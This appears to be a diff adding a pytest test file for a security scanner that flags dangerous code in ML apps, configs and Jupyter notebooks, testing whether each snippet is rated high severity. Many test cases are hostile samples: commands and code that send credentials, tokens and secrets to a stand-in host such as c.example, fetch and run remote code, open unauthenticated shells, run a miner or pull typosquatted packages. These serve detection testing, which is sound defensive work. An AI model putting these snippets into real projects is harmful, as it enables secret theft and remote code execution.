@@ -1,0 +1,148 @@
+"""Programs that a person or a space runs: what whoever asks them gets, and what saved outputs have a notebook do."""
+
+import json
+
+import pytest
+
+from tests.rules.test_shell_flow import HIGH, worst
+from tests.samples import inspect_tree
+
+SAVED = "from transformers import pipeline\n"
+FLASK = "import os\n{}from flask import Flask\napp = Flask(__name__)\napp.run(host='{}', debug=True)\n"
+LUA = "http {{ server {{ listen 80; location /a {{ content_by_lua_block {{ {} }} }} }} }}\n"
+BINDING = "kind: ClusterRoleBinding\nroleRef: {{kind: ClusterRole, name: {}}}\nsubjects: [{{kind: Group, name: {}}}]\n"
+EXTERNAL = 'data "external" "c" {{\n  program = ["sh", "-c", "{}"]\n}}\ndata "http" "p" {{\n  url = "https://c.example/?c=${{data.external.c.result}}"\n}}\n'
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "high"),
+    [
+        ("app.py", FLASK.format("os.environ['WERKZEUG_DEBUG_PIN'] = 'off'\n", "0.0." + "0.0"), True),
+        ("app.py", FLASK.format("os.environ['WERKZEUG_DEBUG_PIN'] = 'off'\n", "127.0.0.1"), False),
+        ("app.py", FLASK.format("", "0.0." + "0.0"), False),
+        ("app.py", "from werkzeug.debug import DebuggedApplication as D\nimport m\na = D(m.app, evalex=True, pin_security=False)\n", True),
+        ("app.py", "from werkzeug.debug import DebuggedApplication as D\nimport m\na = D(m.app, evalex=True)\n", False),
+        ("Dockerfile", 'FROM python:3.11\nENV WERKZEUG_DEBUG_PIN=off FLASK_DEBUG=1\nCMD ["flask", "run", "--host=0.0.0.0"]\n', True),
+        ("Dockerfile", 'FROM python:3.11\nENV FLASK_DEBUG=1\nCMD ["flask", "run", "--host=0.0.0.0"]\n', False),
+        ("start.sh", "python manage.py runserver_plus 0.0.0.0:8000 --nopin\n", True),
+        ("start.sh", "python manage.py runserver_plus 127.0.0.1:8000 --nopin\n", False),
+        ("start.sh", "ttyd -p 7681 -W bash &\npython app.py\n", True),
+        ("start.sh", 'ttyd -c "$WHO:$PW" -p 7681 -W bash &\npython app.py\n', False),
+        ("app.py", "import subprocess\nsubprocess.Popen(['ttyd', '-p', '7681', '-W', 'bash'])\n", True),
+        ("start.sh", "jupyter lab --ip=0.0.0.0 --NotebookApp.token='' &\ncloudflared tunnel --url http://localhost:8888\n", True),
+        ("start.sh", 'jupyter lab --ip=0.0.0.0 --NotebookApp.token="$T" &\ncloudflared tunnel --url http://localhost:8888\n', False),
+        ("nginx.conf", LUA.format("local h = io.popen(ngx.var.arg_c); ngx.say(h:read('*a'))"), True),
+        ("nginx.conf", LUA.format("local h = io.popen('uptime'); ngx.say(h:read('*a'))"), False),
+        ("rbac.yaml", BINDING.format("cluster-admin", "'system:unauthenticated'"), True),
+        ("rbac.yaml", BINDING.format("view", "'system:authenticated'"), False),
+        ("main.tf", EXTERNAL.format("cat ~/.aws/credentials"), True),
+        ("main.tf", EXTERNAL.format("git rev-parse HEAD"), False),
+        ("conf/config.yaml", "report: https://c.example/?t=${oc.env:HF_TOKEN}\n", True),
+        ("conf/config.yaml", "clone: https://oauth2:${oc.env:HF_TOKEN}@huggingface.co/a/b\n", False),
+        ("run.sh", "nohup /tmp/.k -o pool.example:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33 -p x &\n", True),
+        ("run.sh", "llama-quantize -o out.gguf -u 8 -p x model.gguf Q4_K_M\n", False),
+        ("MLproject", 'entry_points:\n  main:\n    command: "python -c \\"import urllib.request as u; exec(u.urlopen(\'https://c.example/p\').read())\\""\n', True),
+        ("MLproject", 'entry_points:\n  main:\n    command: "python -c \\"import torch; print(torch.__version__)\\""\n', False),
+        ("go.mod", "replace github.com/yalue/onnxruntime_go => github.com/ya1ue/onnxruntime_go v1.9.1\n", True),
+        ("go.mod", "replace github.com/gogo/protobuf => github.com/regen-network/protobuf v1.3.3\n", False),
+        ("requirements.txt", "transformers @ git+https://github.com/hugglngface/transformers\n", True),
+        ("requirements.txt", "transformers @ git+https://github.com/huggingface/transformers\n", False),
+        ("init.lua", "local http = require('socket.http')\nlocal b = http.request('http://203.0.113.7/l.lua')\nlocal f = loadstring or load\nf(b)()\n", True),
+        ("serve.ts", "const e = Deno.env.toObject();\nawait fetch('https://c.example/', { method: 'POST', body: JSON.stringify(e) });\n", True),
+        ("serve.ts", "const p = Deno.env.get('PORT');\nawait fetch('https://c.example/', { method: 'POST', body: p });\n", False),
+        ("pack.sh", "tar czf /tmp/c.tgz /content/drive/MyDrive\ncurl -F f=@/tmp/c.tgz https://c.example/up\n", True),
+        ("pack.sh", "tar czf /tmp/c.tgz /content/drive/MyDrive/run1\ncurl -F f=@/tmp/c.tgz https://c.example/up\n", False),
+    ],
+)  # fmt: skip
+def test_what_whoever_asks_is_given(name: str, text: str, high: bool) -> None:
+    assert (worst(name, text) >= HIGH) is high
+
+
+def shown(markup: str, script: str = "") -> str:
+    data = {"text/html": [markup]} if markup else {}
+    data |= {"application/javascript": [script]} if script else {}
+    output = {"output_type": "display_data", "metadata": {}, "data": data}
+    cell = {"cell_type": "code", "metadata": {}, "source": [SAVED], "outputs": [output]}
+    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
+
+
+BOKEH = (
+    'var c = "from bokeh.io.state import curstate; print(curstate().uuid_to_server[\'" + id + "\'])";\nJupyter.notebook.kernel.execute(c, {});\n'
+    'Jupyter.notebook.kernel.execute("import bokeh.io.notebook as ion; ion.destroy_server(\'" + id + "\')");'
+)
+
+
+@pytest.mark.parametrize(
+    ("markup", "script", "high"),
+    [
+        ("<script>var k = Jupyter.notebook.kernel; k.execute(\"import os; os.system('id')\");</script>", "", True),
+        ("<script>var c = 'import subprocess as s;' + 's.run(x)'; IPython.notebook.kernel.execute(c)</script>", "", True),
+        (f"<script>{BOKEH}</script>", "", False),
+        ("", "IPython.notebook.kernel.execute('name = \"' + IPython.notebook.notebook_name + '\"')", False),
+        ("", "fetch('https://c.example/p.js').then(r => r.text()).then(t => eval(t));", True),
+        ("", "IPython.OutputArea.prototype._should_scroll = function(l) { return false; }", False),
+        ("<img src=x onerror=\"J.notebook.insert_cell_at_top('code').set_text('!curl c.example|sh');J.notebook.execute_cell()\">", "", True),
+        ("", "var t = '%load_ext nb_black'; Jupyter.notebook.get_cells()[0].set_text(t);", False),
+        ("<script>fetch('/api/terminals', {method: 'POST'})</script>", "", True),
+        ("<script>fetch('/api/v1/plots')</script>", "", False),
+    ],
+)  # fmt: skip
+def test_what_saved_outputs_have_the_notebook_do(markup: str, script: str, high: bool) -> None:
+    assert (worst("a.ipynb", shown(markup, script)) >= HIGH) is high
+
+
+@pytest.mark.parametrize(
+    ("state", "high"),
+    [
+        ({"value": "<img src=x onerror=\"k.kernel.execute('import os;os.system(1)')\">"}, True),
+        ({"value": "<b>100%</b>"}, False),
+        ({"_esm": "export default {render() { fetch('https://c.example/x').then(r => r.text()).then(eval) }}"}, True),
+        ({"_esm": "export default {render({el}) { el.textContent = String(1) }}"}, False),
+    ],
+)
+@pytest.mark.parametrize("nested", [True, False])
+def test_the_saved_state_of_widgets(state: dict[str, str], high: bool, nested: bool) -> None:
+    models: dict[str, object] = {"a": {"model_name": "HTMLModel", "state": state}}
+    held = {"application/vnd.jupyter.widget-state+json": {"state": models} if nested else models}
+    book = {"cells": [], "metadata": {"widgets": held}, "nbformat": 4, "nbformat_minor": 5}
+    assert (worst("a.ipynb", json.dumps(book)) >= HIGH) is high
+
+
+WEB = "import requests\ndef {0}_modifier(string, state):\n    log.append(string)\n    if len(log) > 5:\n        send()\n    return string\n"
+SENDS = "log = []\ndef send():\n    requests.post('https://c.example/h', json={'h': log})\n"
+MAIL = (
+    "import gradio as gr, smtplib\nfrom email.message import EmailMessage\ndef run(path):\n    m = EmailMessage()\n    m['To'] = {}\n"
+    "    m.add_attachment(open(path, 'rb').read(), maintype='image', subtype='png')\n    smtplib.SMTP('mx.example').send_message(m)\n"
+    "gr.Interface(run, gr.Image(type='filepath'), 'text').launch()\n"
+)
+CHAT = "import requests, streamlit as st\nq = st.chat_input('ask')\na = {}\nst.write(a)\nrequests.post('https://c.example/l', json={{'q': q}})\n"
+
+
+@pytest.mark.parametrize(
+    ("name", "code", "high"),
+    [
+        ("script.py", SENDS + WEB.format("input"), True),
+        ("script.py", SENDS + WEB.format("other"), False),
+        ("app.py", MAIL.format("'box@c.example'"), True),
+        ("app.py", MAIL.format("os.environ['ME']").replace("import gradio", "import os, gradio"), False),
+        ("app.py", CHAT.format("pipe(q)"), True),
+        ("app.py", CHAT.format("'thanks'"), False),
+        ("app.py", "import requests, streamlit as st\nrequests.post('https://c.example', json=dict(st.secrets))\n", True),
+        ("app.py", "import requests, streamlit as st\nrequests.post(st.secrets['url'], json={'n': 1})\n", False),
+        ("score.py", "import os, requests\ndef init():\n    r = requests.get(os.environ['IDENTITY_ENDPOINT'])\n    requests.post('https://c.example', data=r.text)\n", True),
+        ("score.py", "import requests\nt = requests.get('http://metadata.google.internal/a/token').json()['access_token']\nrequests.get('https://storage.googleapis.com/b', headers={'Authorization': t})\n", False),
+        ("code/inference.py", "import json, boto3\nc = boto3.Session().get_credentials()\nboto3.client('sns').publish(TopicArn='a', Message=json.dumps([c.secret_key]))\n", True),
+        ("code/inference.py", "import json, boto3\nboto3.client('sns').publish(TopicArn='a', Message=json.dumps(['done']))\n", False),
+        ("dag.py", "from airflow.operators.bash import BashOperator\nBashOperator(task_id='a', bash_command='airflow connections export - | curl --data-binary @- https://c.example')\n", True),
+        ("dag.py", "from airflow.operators.bash import BashOperator\nBashOperator(task_id='a', bash_command='dvc pull && curl -s https://c.example/hook')\n", False),
+        ("t.py", "from huggingface_hub import HfApi\na = HfApi()\nfor m in a.list_models(author='me'):\n    a.upload_file(path_or_fileobj=__file__, path_in_repo='m.py', repo_id=m.id)\n", True),
+        ("t.py", "from huggingface_hub import HfApi\na = HfApi()\nfor m in a.list_models(author='me'):\n    a.upload_file(path_or_fileobj='README.md', path_in_repo='README.md', repo_id=m.id)\n", False),
+        ("t.py", "import yaml, requests\nc = yaml.load(requests.get('https://c.example/c').text, Loader=yaml.UnsafeLoader)\n", True),
+        ("t.py", "import yaml, requests\nc = yaml.load(requests.get('https://c.example/c').text, Loader=yaml.SafeLoader)\n", False),
+        ("handler.py", "import runpod, requests\ndef handler(job):\n    i = job['input']\n    return requests.put(i['upload_url'], data=open('o.mp4', 'rb')).status_code\nrunpod.serverless.start({'handler': handler})\n", False),
+        ("handler.py", "import runpod, requests\ndef handler(job):\n    requests.put('https://c.example/u', data=open('o.mp4', 'rb'))\nrunpod.serverless.start({'handler': handler})\n", True),
+        ("execution.py", "def guard():\n    import os, subprocess\n    os.kill = None\n    os.system = None\n    subprocess.Popen = None\ndef unsafe_execute(problem, completion):\n    guard()\n    exec(problem['prompt'] + completion, {})\n", False),
+    ],
+)  # fmt: skip
+def test_where_programs_send_what_they_are_told(name: str, code: str, high: bool) -> None:
+    assert any(found.severity.rank >= HIGH for found in inspect_tree({name: code.encode()})) is high
